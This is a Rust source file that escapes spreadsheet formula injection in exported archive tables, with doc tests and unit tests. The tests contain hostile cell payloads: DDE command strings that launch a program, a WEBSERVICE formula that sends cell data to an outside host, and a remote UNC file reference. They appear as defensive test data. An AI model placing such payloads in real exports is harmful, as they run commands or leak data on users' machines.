//! Cells of a table as a spreadsheet takes them: text of an archive must not be carried out there.

/// What a formula begins with; also the wide forms, which some spreadsheets take for the same.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// A cell that no spreadsheet runs: a `'` stands before one that would call a function, another
/// program or another file, and before every one that begins as a formula where `strict` is set.
///
/// A headline such as `-5 °C` or `@mayor resigns` calls nothing and stays as it is, so that a table
/// is what the archive holds; a formula that only reckons does no harm.
///
/// ```
/// use fiche::output::cell;
///
/// assert_eq!(cell("=HYPERLINK(\"http://a.example\")".into(), false), "'=HYPERLINK(\"http://a.example\")");
/// assert_eq!(cell("-5 °C (and falling)".into(), false), "-5 °C (and falling)");
/// assert_eq!(cell("-5 °C (and falling)".into(), true), "'-5 °C (and falling)");
/// ```
pub fn cell(text: String, strict: bool) -> String {
    let bare = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    let begins = text.starts_with(SIGNS) || text.starts_with(['\t', '\r']);
    let held = (strict && begins) || (bare.starts_with(SIGNS) && calls(bare));
    if held { format!("'{text}") } else { text }
}

/// Whether a formula calls something: `name(`, `program|…!place`, `[file]sheet!place`.
fn calls(formula: &str) -> bool {
    let name = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.');
    let place = |c: char| name(c) || c == '$';
    formula.match_indices(['(', '!']).any(|(at, sign)| {
        let before = formula[..at].chars().next_back();
        let after = formula[at + 1..].chars().next();
        match sign {
            "(" => before.is_some_and(name),
            _ => {
                before.is_some_and(|c| name(c) || matches!(c, '\'' | ']'))
                    && after.is_some_and(place)
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_calls_something_is_held_and_what_is_text_is_left() {
        for held in [
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|'/C calc'!$A$1",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=WEBSERVICE(\"http://a.example/\"&A1)",
            "\r\n =IMPORTXML(\"http://a.example\", \"//a\")",
            "='\\\\a.example\\s\\[b.xls]c'!A1",
            "＝HYPERLINK(\"http://a.example\")",
        ] {
            assert_eq!(cell(held.to_owned(), false), format!("'{held}"));
        }
        for text in ["=1+1", "-5 °C", "@mayor: no!", "+++ Ticker +++", "- a (b) c", "a =f(x)", ""]
        {
            assert_eq!(cell(text.to_owned(), false), text);
            let begins = !text.is_empty() && !text.starts_with('a');
            assert_eq!(cell(text.to_owned(), true).starts_with('\''), begins, "{text}");
        }
    }
}
